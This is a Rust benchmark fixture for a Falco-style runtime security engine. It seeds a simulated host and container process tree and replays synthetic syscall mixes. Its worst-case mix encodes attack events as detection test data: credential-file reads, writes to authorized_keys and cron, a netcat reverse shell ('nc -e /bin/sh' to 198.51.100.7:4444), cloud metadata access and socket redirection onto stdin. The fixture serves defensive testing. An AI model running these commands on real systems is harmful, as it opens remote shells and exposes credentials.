//! Shared setup of the engine benchmarks: the upstream rules loaded unchanged, a seeded process
//! tree (host services, an ssh login, containers with deep ancestor chains) and the synthetic event
//! mixes fed through `Engine::process` exactly as capture would feed them.
//!
//! Every mix is a fixed sequence that leaves the state as it found it (every fd it opens is closed,
//! every process it forks exits), so a benchmark can replay it any number of times.
#![allow(dead_code, unused_imports)]

use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::sync::Arc;
use syssentry_engine::eval::{load_rules, BuildOptions, RuleMatching, RuleSet};
use syssentry_engine::event::ppm::{af, ipproto, open::*, sock, AT_FDCWD};
use syssentry_engine::event::{mk, Event, EventBuilder, SockTuple};
use syssentry_engine::output::OutputOptions;
use syssentry_engine::state::{ContainerInfo, ProcImage, State, Thread};

// The one path helper of the engine's tests, shared with the benchmarks.
#[path = "../../tests/common/rules.rs"]
mod rules;
pub use rules::{our_rules, upstream_rules};

/// The stable rules file.
pub fn stable() -> Vec<PathBuf> {
    vec![upstream_rules("falco_rules.yaml")]
}

/// The stable and incubating rules files, in the order Falco loads them.
pub fn stable_incubating() -> Vec<PathBuf> {
    vec![
        upstream_rules("falco_rules.yaml"),
        upstream_rules("falco-incubating_rules.yaml"),
    ]
}

/// Output settings: fixed host name and UTC (no time-zone lookups), suggested container fields on
/// as in Falco's default configuration.
pub fn output_options() -> OutputOptions {
    OutputOptions {
        hostname: Arc::from("bench-host"),
        suggested_output: true,
        time_iso8601: false,
        utc_offset: Some(0),
        ecs_output: false,
    }
}

/// Loads and compiles `files` with Falco's default settings (first match only); panics on errors
/// (the upstream files must load cleanly).
pub fn ruleset(files: &[PathBuf], matching: RuleMatching) -> Arc<RuleSet> {
    let opts = BuildOptions {
        matching,
        output: output_options(),
        ..BuildOptions::default()
    };
    let report = load_rules(files, &opts);
    assert!(
        !report.diagnostics.has_errors(),
        "{}",
        report.diagnostics.render(&report.sources)
    );
    Arc::new(report.ruleset)
}

/// The time of the first event.
pub const T0: u64 = 1_767_323_045_000_000_000;

/// Container ids of the seeded containers.
pub const WEB: &str = "3ad7b26ded6d";
/// A container running a shell session several levels deep.
pub const DEBUG: &str = "9c1e4f2a7b30";

struct P<'a> {
    pid: i64,
    ppid: i64,
    exe: &'a str,
    argv: &'a [&'a str],
    uid: u32,
    tty: u32,
    container: &'a str,
}

fn add(state: &mut State, p: P<'_>) {
    let mut t = Thread::new(p.pid, p.pid, p.ppid);
    let comm: String = p
        .exe
        .rsplit('/')
        .next()
        .unwrap_or(p.exe)
        .chars()
        .take(15)
        .collect();
    let args = p.argv.iter().skip(1).map(|s| s.to_string()).collect();
    t.image = Arc::new(ProcImage::new(
        p.argv[0],
        p.exe,
        &comm,
        args,
        vec!["PATH=/usr/bin:/bin".into()],
    ));
    t.cwd = "/".into();
    t.uid = p.uid;
    t.gid = p.uid;
    t.tty = p.tty;
    t.sid = p.pid;
    t.clone_ts = T0 - 3_600_000_000_000;
    t.container_id = Arc::from(p.container);
    if !p.container.is_empty() {
        t.cgroups = Arc::new(vec![cgroup(p.container)]);
        // Inside a pid namespace: the namespace sees different ids.
        t.vtid = p.pid - 5_000 + 1;
        t.vpid = t.vtid;
    }
    assert!(state.add_thread(t), "seeding pid {}", p.pid);
}

/// The seeded host: systemd, sshd with a login shell, nginx, a JVM, postgres, containerd shims, a
/// web container (node) and a debugging container whose shell sits below a chain of 12 ancestors.
pub fn seeded_state() -> State {
    let mut s = State::default();
    s.users.load_passwd(
        "",
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
         postgres:x:113:120::/var/lib/postgresql:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n",
    );
    s.groups.load_group(
        "",
        "root:x:0:\nwww-data:x:33:\npostgres:x:120:\nalice:x:1000:\n",
    );
    let host = "";
    let procs: &[P<'_>] = &[
        P {
            pid: 1,
            ppid: 0,
            exe: "/usr/lib/systemd/systemd",
            argv: &["/sbin/init"],
            uid: 0,
            tty: 0,
            container: host,
        },
        P {
            pid: 400,
            ppid: 1,
            exe: "/usr/sbin/sshd",
            argv: &["sshd", "-D"],
            uid: 0,
            tty: 0,
            container: host,
        },
        P {
            pid: 410,
            ppid: 400,
            exe: "/usr/sbin/sshd",
            argv: &["sshd", "alice@pts/0"],
            uid: 1000,
            tty: 0,
            container: host,
        },
        P {
            pid: 420,
            ppid: 410,
            exe: "/usr/bin/bash",
            argv: &["-bash"],
            uid: 1000,
            tty: 34816,
            container: host,
        },
        P {
            pid: 1000,
            ppid: 1,
            exe: "/usr/sbin/nginx",
            argv: &["nginx", "-g", "daemon off;"],
            uid: 0,
            tty: 0,
            container: host,
        },
        P {
            pid: 1001,
            ppid: 1000,
            exe: "/usr/sbin/nginx",
            argv: &["nginx", "-g", "daemon off;"],
            uid: 33,
            tty: 0,
            container: host,
        },
        P {
            pid: 1002,
            ppid: 1000,
            exe: "/usr/sbin/nginx",
            argv: &["nginx", "-g", "daemon off;"],
            uid: 33,
            tty: 0,
            container: host,
        },
        P {
            pid: 1100,
            ppid: 1,
            exe: "/usr/lib/jvm/java-17/bin/java",
            argv: &["java", "-jar", "/opt/app/app.jar"],
            uid: 1000,
            tty: 0,
            container: host,
        },
        P {
            pid: 1200,
            ppid: 1,
            exe: "/usr/lib/postgresql/16/bin/postgres",
            argv: &["postgres", "-D", "/var/lib/postgresql/16/main"],
            uid: 113,
            tty: 0,
            container: host,
        },
        P {
            pid: 1201,
            ppid: 1200,
            exe: "/usr/lib/postgresql/16/bin/postgres",
            argv: &["postgres: checkpointer"],
            uid: 113,
            tty: 0,
            container: host,
        },
        P {
            pid: 1900,
            ppid: 1,
            exe: "/usr/bin/containerd-shim-runc-v2",
            argv: &["containerd-shim-runc-v2", "-namespace", "k8s.io"],
            uid: 0,
            tty: 0,
            container: host,
        },
        P {
            pid: 5000,
            ppid: 1900,
            exe: "/usr/local/bin/node",
            argv: &["node", "server.js"],
            uid: 1000,
            tty: 0,
            container: WEB,
        },
        P {
            pid: 5001,
            ppid: 5000,
            exe: "/usr/local/bin/node",
            argv: &["node", "worker.js"],
            uid: 1000,
            tty: 0,
            container: WEB,
        },
        P {
            pid: 1950,
            ppid: 1,
            exe: "/usr/bin/containerd-shim-runc-v2",
            argv: &["containerd-shim-runc-v2", "-namespace", "k8s.io"],
            uid: 0,
            tty: 0,
            container: host,
        },
    ];
    for p in procs {
        add(&mut s, P { ..*p });
    }
    // The debugging container: tini → a chain of wrappers and shells, 12 deep, ending in bash.
    let chain = [
        ("/usr/bin/tini", "tini"),
        ("/usr/local/bin/entrypoint", "entrypoint"),
        ("/usr/bin/dumb-init", "dumb-init"),
        ("/usr/local/bin/supervisord", "supervisord"),
        ("/usr/bin/python3.11", "python3"),
        ("/usr/bin/make", "make"),
        ("/usr/bin/sh", "sh"),
        ("/usr/bin/env", "env"),
        ("/usr/bin/perl", "perl"),
        ("/usr/bin/sh", "sh"),
        ("/usr/bin/tmux", "tmux"),
        ("/usr/bin/bash", "bash"),
    ];
    let mut ppid = 1950;
    for (i, (exe, name)) in chain.iter().enumerate() {
        let pid = 6000 + i as i64;
        add(
            &mut s,
            P {
                pid,
                ppid,
                exe,
                argv: &[name],
                uid: 0,
                tty: if i == chain.len() - 1 { 34817 } else { 0 },
                container: DEBUG,
            },
        );
        ppid = pid;
    }
    for (id, name, image) in [
        (WEB, "web-frontend", "registry.example.com/shop/web:1.8.2"),
        (DEBUG, "debug-tools", "docker.io/library/ubuntu:24.04"),
    ] {
        let (repo, tag) = image.rsplit_once(':').unwrap_or((image, ""));
        s.containers.insert(ContainerInfo {
            id: id.into(),
            full_id: full_id(id),
            name: name.into(),
            image: image.into(),
            image_repository: repo.into(),
            image_tag: tag.into(),
            container_type: "containerd".into(),
            privileged: id == DEBUG,
            ..ContainerInfo::default()
        });
    }
    s
}

/// The 64-character id of a seeded container.
pub fn full_id(id: &str) -> String {
    format!("{id}{}", "0".repeat(52))
}

/// The cgroup line (`subsystem=path`) of a process in a seeded container.
pub fn cgroup(id: &str) -> String {
    format!("cpuset=/docker/{}", full_id(id))
}

/// The tid of the innermost shell of the debugging container.
pub const DEBUG_SHELL: i64 = 6011;

/// A builder of a replayable event sequence with increasing timestamps.
struct Seq {
    events: Vec<Event>,
    ts: u64,
}

impl Seq {
    fn push(&mut self, b: EventBuilder) {
        self.ts += 10_000;
        self.events.push(b.ts(self.ts).build());
    }
}

fn tuple(sip: [u8; 4], sport: u16, dip: [u8; 4], dport: u16) -> SockTuple<&'static str> {
    SockTuple::Inet {
        sip: Ipv4Addr::from(sip),
        sport,
        dip: Ipv4Addr::from(dip),
        dport,
    }
}

/// Ordinary files read by services on a busy host.
const READS: &[(i64, &str)] = &[
    (1001, "/var/www/html/index.html"),
    (1002, "/var/www/html/static/app.3f9c2.js"),
    (1001, "/var/www/html/static/style.css"),
    (1100, "/opt/app/lib/jackson-databind-2.17.jar"),
    (1100, "/opt/app/config/application.yaml"),
    (1200, "/var/lib/postgresql/16/main/base/16384/2619"),
    (1201, "/var/lib/postgresql/16/main/global/pg_control"),
    (5000, "/app/node_modules/express/lib/router/index.js"),
    (5001, "/app/views/product.html"),
    (420, "/home/alice/project/src/main.rs"),
    (1, "/proc/1200/stat"),
    (1100, "/etc/ssl/certs/ca-certificates.crt"),
    (1002, "/usr/share/zoneinfo/UTC"),
    (5000, "/etc/hosts"),
];

/// Files written (logs, temporaries).
const WRITES: &[(i64, &str)] = &[
    (1001, "/var/log/nginx/access.log"),
    (1100, "/var/log/app/app.log"),
    (
        1200,
        "/var/lib/postgresql/16/main/pg_wal/000000010000000000000042",
    ),
    (5001, "/tmp/upload-7f3a.part"),
    (
        420,
        "/home/alice/project/target/debug/.fingerprint/lib.json",
    ),
];

/// The realistic mix: one round of 100 events, repeated `rounds` times with varying file names.
///
/// Per round: 28 read-only `openat` of ordinary files, 5 `openat` for writing/appending, 3 `open`,
/// 1 failed `openat` (ENOENT), 45 `close`, 2 `dup` + 2 `dup3`, 3 `socket` + 3 `connect` (to a
/// database and an HTTPS service), 2 `accept4`, and one short-lived command run from the login
/// shell twice over (`fork` + `execve` + `procexit`, 2 each).
pub fn realistic_mix(rounds: usize) -> Vec<Event> {
    let mut s = Seq {
        events: Vec::with_capacity(rounds * 100),
        ts: T0,
    };
    for r in 0..rounds {
        let mut open_fds: Vec<(i64, i64)> = Vec::new();
        let mut next_fd = 20;
        let mut fd = || {
            next_fd += 1;
            next_fd
        };
        for i in 0..28 {
            let (tid, path) = READS[(r * 7 + i) % READS.len()];
            let f = fd();
            s.push(mk::openat(tid, AT_FDCWD, path, O_RDONLY | O_CLOEXEC, 0, f));
            open_fds.push((tid, f));
        }
        for i in 0..5 {
            let (tid, path) = WRITES[(r + i) % WRITES.len()];
            let f = fd();
            s.push(mk::openat(
                tid,
                AT_FDCWD,
                path,
                O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC,
                0o644,
                f,
            ));
            open_fds.push((tid, f));
        }
        for i in 0..3 {
            let (tid, path) = READS[(r * 3 + i + 5) % READS.len()];
            let f = fd();
            s.push(mk::open(tid, path, O_RDONLY, 0, f));
            open_fds.push((tid, f));
        }
        s.push(mk::openat(
            1100,
            AT_FDCWD,
            "/opt/app/config/application-prod.yaml",
            O_RDONLY,
            0,
            -2,
        ));
        for i in 0..2 {
            let (tid, old) = open_fds[i * 5];
            let f = fd();
            s.push(mk::dup(tid, old, f));
            open_fds.push((tid, f));
            let (tid, old) = open_fds[i * 5 + 1];
            let f = fd();
            s.push(mk::dup3(tid, old, f, O_CLOEXEC, f));
            open_fds.push((tid, f));
        }
        for (tid, dst, port) in [
            (1100, [10, 0, 3, 17], 5432u16),
            (5000, [10, 0, 3, 40], 443),
            (1100, [10, 0, 3, 17], 5432),
        ] {
            let f = fd();
            s.push(mk::socket(
                tid,
                af::AF_INET,
                sock::SOCK_STREAM,
                ipproto::TCP,
                f,
            ));
            s.push(mk::connect(
                tid,
                f,
                tuple([10, 0, 1, 5], 40_000 + (r % 20_000) as u16, dst, port),
                0,
            ));
            open_fds.push((tid, f));
        }
        for tid in [1001, 1002] {
            let f = fd();
            s.push(mk::accept4(
                tid,
                f,
                tuple(
                    [203, 0, 113, 9],
                    51_000 + (r % 10_000) as u16,
                    [10, 0, 1, 5],
                    443,
                ),
            ));
            open_fds.push((tid, f));
        }
        for (child, exe, argv) in [
            (9000, "/usr/bin/ls", &["ls", "-la"][..]),
            (9001, "/usr/bin/git", &["git", "status"][..]),
        ] {
            s.push(mk::fork(420, child));
            s.push(mk::execve(child, child, exe, argv, 0).list("cgroups", &["cpuset=/user.slice"]));
            s.push(mk::procexit(child));
        }
        for (tid, f) in open_fds {
            s.push(mk::close(tid, f, 0));
        }
    }
    s.events
}

/// The worst-case mix: one round of 51 events aimed at the longest conditions, repeated `rounds`
/// times. Events that raise alerts (output formatting included) alternate with near misses that
/// run deep into conditions before an exception excludes them:
///
/// * sensitive-file reads (`/etc/shadow`, `/etc/pam.d/*`, `/root/.ssh/id_rsa`, ...) in the
///   debugging container by a python script (alert) and by its shell, and on the host by sshd
///   and systemd (near misses: the rules' exclusion lists let them through only at the end);
/// * shell execs in the debugging container below its 12-deep ancestor chain (alert), and on the
///   host below sshd (near miss), plus netcat and package-manager launches in the container;
/// * connects from the container to the cloud metadata address and to outside addresses, dup2 of
///   a socket onto stdin, writes below `/dev` and to shell configuration files, symlinks over
///   sensitive files, and the closes that keep the state stable.
pub fn worst_case_mix(rounds: usize) -> Vec<Event> {
    let mut s = Seq {
        events: Vec::with_capacity(rounds * 51),
        ts: T0,
    };
    let sh = DEBUG_SHELL;
    let debug_cgroup = cgroup(DEBUG);
    for _ in 0..rounds {
        // Readers in the container (the shell, a python script below the chain) and on the host.
        for (tid, path, fd) in [
            (sh, "/etc/shadow", 30),
            (sh, "/etc/pam.d/common-auth", 31),
            (sh, "/root/.ssh/id_rsa", 32),
            (sh, "/etc/sudoers", 33),
            (400, "/etc/shadow", 34),
            (400, "/etc/pam.d/sshd", 35),
            (1, "/etc/shadow", 36),
            (6004, "/etc/shadow", 37),
            (6004, "/proc/6000/environ", 38),
            (1100, "/etc/ld.so.preload", 39),
        ] {
            s.push(mk::openat(tid, AT_FDCWD, path, O_RDONLY, 0, fd));
        }
        for (tid, fd) in [
            (sh, 30),
            (sh, 31),
            (sh, 32),
            (sh, 33),
            (400, 34),
            (400, 35),
            (1, 36),
            (6004, 37),
            (6004, 38),
            (1100, 39),
        ] {
            s.push(mk::close(tid, fd, 0));
        }
        // Writes: shell configuration, below /dev, cron, authorized_keys.
        for (tid, path, fd) in [
            (sh, "/root/.bashrc", 40),
            (sh, "/dev/shm/.x", 41),
            (sh, "/etc/cron.d/job", 42),
            (420, "/home/alice/.ssh/authorized_keys", 43),
        ] {
            s.push(mk::openat(
                tid,
                AT_FDCWD,
                path,
                O_WRONLY | O_CREAT | O_TRUNC,
                0o644,
                fd,
            ));
            s.push(mk::close(tid, fd, 0));
        }
        // Shells and tools launched in the container below the long chain, and on the host.
        for (child, parent, exe, argv) in [
            (9100, sh, "/usr/bin/bash", &["bash", "-c", "id"][..]),
            (
                9101,
                sh,
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"][..],
            ),
            (
                9102,
                sh,
                "/usr/bin/apt-get",
                &["apt-get", "install", "-y", "nmap"][..],
            ),
            (9103, 420, "/usr/bin/sh", &["sh", "-c", "uptime"][..]),
            (
                9104,
                1100,
                "/usr/bin/sh",
                &["sh", "-c", "/opt/app/bin/healthcheck"][..],
            ),
        ] {
            s.push(mk::fork(parent, child));
            // Capture reports the cgroups with every exec; the container's for those in it.
            let cgroups: &[&str] = if parent == sh {
                &[&debug_cgroup]
            } else {
                &["cpuset=/"]
            };
            s.push(mk::execve(child, child, exe, argv, 0).list("cgroups", cgroups));
            s.push(mk::procexit(child));
        }
        // Network: metadata service, outside address, then the socket redirected onto stdin.
        s.push(mk::socket(
            sh,
            af::AF_INET,
            sock::SOCK_STREAM,
            ipproto::TCP,
            50,
        ));
        s.push(mk::connect(
            sh,
            50,
            tuple([172, 17, 0, 3], 40_100, [169, 254, 169, 254], 80),
            0,
        ));
        s.push(mk::socket(
            sh,
            af::AF_INET,
            sock::SOCK_STREAM,
            ipproto::TCP,
            51,
        ));
        s.push(mk::connect(
            sh,
            51,
            tuple([172, 17, 0, 3], 40_101, [198, 51, 100, 7], 4444),
            0,
        ));
        s.push(mk::dup2(sh, 51, 0, 0));
        s.push(mk::close(sh, 50, 0));
        s.push(mk::close(sh, 51, 0));
        s.push(mk::symlink(sh, "/etc/shadow", "/tmp/s", 0));
    }
    s.events
}
